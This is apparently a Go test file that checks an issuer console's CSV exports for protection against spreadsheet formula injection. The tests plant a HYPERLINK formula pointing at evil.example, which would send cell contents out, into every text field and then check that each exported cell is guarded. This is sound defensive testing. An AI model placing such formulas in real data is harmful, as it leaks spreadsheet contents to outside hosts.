package handlers_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"issuerconsole/handlers"
	"issuerconsole/services/audit"
	"issuerconsole/services/export"
	"issuerconsole/services/issuance"
)

// formula is what a hostile value looks like: leading white space, then a
// formula that would call out of the spreadsheet.
const formula = ` =HYPERLINK("http://evil.example/?"&A1,"x")`

// inert reports whether a spreadsheet would take cell as data: a number in
// a numeric column, or text that cannot start a formula.
func inert(cell string, numeric bool) bool {
	if numeric && cell != "" && strings.Trim(cell, "-.0123456789") == "" {
		return true
	}
	t := strings.TrimLeftFunc(cell, unicode.IsSpace)
	if t == "" || strings.HasPrefix(cell, "'") {
		return true
	}
	return !strings.ContainsRune("=+-@\t\r\n", []rune(cell)[0]) && !strings.ContainsRune("=+-@", []rune(t)[0])
}

// checkSheet fails on any cell a spreadsheet would run, and on a file where
// the planted formula appears in no cell (nothing was tested).
func checkSheet(t *testing.T, name, body string, numeric ...string) [][]string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	planted := 0
	for i, rec := range recs {
		for j, cell := range rec {
			isNum := i > 0 && j < len(recs[0]) && slices.Contains(numeric, recs[0][j])
			if !inert(cell, isNum) {
				t.Errorf("%s row %d column %q: %q would run as a formula", name, i, recs[0][j], cell)
			}
			if strings.Contains(cell, "HYPERLINK") {
				planted++
			}
		}
	}
	if planted == 0 {
		t.Fatalf("%s: the planted formula is in no cell", name)
	}
	return recs
}

// Every text column of the audit export holds a formula: each comes out
// guarded, and the numbers stay numbers.
func TestAuditCSVGuardsEveryColumn(t *testing.T) {
	t.Parallel()
	s := newTestServer(t)
	c := s.client(t)
	c.login(adminEmail, adminPass)
	e := audit.Entry{Kind: audit.KindEvent, API: formula, Method: formula, Path: formula, Status: 500, Duration: time.Second, Attempt: 2,
		IdempotencyKey: formula, UpstreamRequestID: formula, Error: formula, Actor: formula, Job: formula, Row: formula,
		Event: formula, Detail: formula, RequestBody: formula, ResponseBody: formula}
	if _, err := s.app.Audit.Append(context.Background(), e); err != nil {
		t.Fatal(err)
	}
	r := c.get("/audit/export.csv")
	wantStatus(t, r, http.StatusOK)
	recs := checkSheet(t, "audit export", r.body, "id", "status", "duration_ms", "attempt")
	if got := recs[1][13]; got != "'"+formula {
		t.Fatalf("actor %q: the value must be kept, guarded", got)
	}
}

// Every text column of the import report holds a formula.
func TestImportReportGuardsEveryColumn(t *testing.T) {
	t.Parallel()
	s := newTestServer(t)
	c := s.client(t)
	c.login(adminEmail, adminPass)
	j := newImportJob(t, s, c, "formulas")
	j.fromCSV(investmentsFor(t, s, 0, 2), func(int) string { return "3fa85f64-5717-4562-b3fc-2c963f66afa6" })
	_, err := s.app.DB.Exec(`UPDATE import_rows SET reference = ?, investor_name = ?, cashlink_investor = ?, error = ?,
		cashlink_investment = ?, wallet = ?, final_status = ? WHERE job_id = ?`, formula, formula, formula, formula, formula, formula, formula, j.num)
	if err != nil {
		t.Fatal(err)
	}
	r := c.get(j.path("report.csv"))
	wantStatus(t, r, http.StatusOK)
	checkSheet(t, "import report", r.body, "row", "issuance_investment_id", "units")
}

// The investment export, against an Issuance API whose every text and
// decimal field is a formula.
func TestInvestmentExportGuardsEveryColumn(t *testing.T) {
	t.Parallel()
	s := newTestServer(t)
	inv := map[string]any{"id": 7, "quantity": 3, "offering": 2, "updated_at": "2026-01-02T03:04:05Z", "has_investor_signed": true,
		"accredited_investor": true, "us_person": false, "exempt_from_backup_withholding": true, "bonus_shares": 1, "quantity_qualified_shares": 1}
	for _, f := range []string{"price", "price_fees", "price_payment_processing_fees", "amount", "status", "payment_intent_id",
		"reference_id", "investor_individual_name", "payment_method", "net_worth", "annual_income", "amount_invested_in_reg_cf_offering_this_year",
		"user_browser_type", "accredited_investor_type", "investor_verify_process_status", "processing_issue_statuses", "shares_amount",
		"bonus_shares_code", "bonus_shares_percentage_tier", "bonus_shares_quantity_tier", "price_qualified_shares"} {
		inv[f] = formula
	}
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{"count": 1, "next": nil, "previous": nil, "results": []any{inv}})
	}))
	t.Cleanup(api.Close)
	client, err := issuance.New(issuance.Options{BaseURL: api.URL + "/", APIKey: "k", AllowHTTP: true, Audit: s.app.Audit})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	m, err := export.NewManager(ctx, t.TempDir(), client, handlers.ExportColumns(func(int64) string { return "" }), slog.New(slog.NewTextHandler(io.Discard, nil)))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cancel(); m.Wait() })
	var numeric []string
	for _, col := range handlers.ExportColumns(func(int64) string { return "" }) {
		if col.Num {
			numeric = append(numeric, col.Name)
		}
	}
	j, err := m.Start(context.Background(), 1, url.Values{}, true)
	if err != nil {
		t.Fatal(err)
	}
	m.Wait()
	if p := j.Progress(); p.State != export.Done {
		t.Fatalf("export %s: %s", p.State, p.Err)
	}
	b, err := os.ReadFile(j.Path())
	if err != nil {
		t.Fatal(err)
	}
	checkSheet(t, filepath.Base(j.Path()), string(b), numeric...)
}
